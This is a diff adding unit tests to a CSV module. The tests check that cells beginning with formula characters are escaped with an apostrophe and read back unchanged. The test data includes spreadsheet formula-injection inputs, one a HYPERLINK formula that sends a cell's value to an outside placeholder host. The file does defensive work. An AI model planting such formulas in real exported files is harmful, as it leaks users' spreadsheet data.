@@ -20,6 +20,25 @@ describe('CSV', () => {
     expect(read(rows.map(csvRow).join(''), length)).toEqual(rows);
   });
 
+  const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '=HYPERLINK("http://a/?"&A1,"b")'];
+
+  it.each(formulas)('%j at the start of a cell is a text to a spreadsheet, and read as it was', (text) => {
+    for (const cell of [text, `'${text}`, `''${text}`]) {
+      const line = csvRow([cell, 'b']);
+      expect(line).toMatch(/^"?'/);
+      expect(read(line, 1)).toEqual([[cell, 'b']]);
+    }
+  });
+
+  it.each(["it's", "'quoted'", 'a=b', '1-2', "'"])('%j stays as it is', (text) => {
+    expect(csvRow([text])).toBe(`${text}\r\n`);
+    expect(read(csvRow([text]), 1)).toEqual([[text]]);
+  });
+
+  it('a formula that a table brings without the apostrophe is taken as it is', () => {
+    expect(read("=1,'x,-5\r\n", 100)).toEqual([['=1', "'x", '-5']]);
+  });
+
   it('takes a byte order mark, bare line ends and a last line without end; an empty line is a row of one cell', () => {
     expect(read('\uFEFFa,b\n\n1,2\n3,', 1)).toEqual([['a', 'b'], [''], ['1', '2'], ['3', '']]);
   });
